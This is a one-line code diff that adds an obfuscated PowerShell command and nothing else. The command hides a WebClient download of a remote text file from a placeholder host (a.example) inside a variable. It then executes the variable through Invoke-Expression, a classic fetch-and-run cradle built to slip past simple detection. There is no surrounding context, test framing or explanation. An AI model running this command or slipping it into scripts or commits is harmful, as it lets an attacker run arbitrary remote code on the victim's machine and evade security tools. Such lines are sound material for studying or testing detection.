@@ -1,0 +1,1 @@
+Set-Item Variable:/zz '$c = New-Object Net.WebClient; $c.DownloadString(''http://a.example/p/x.txt'')'; iex (ls variable:zz).value
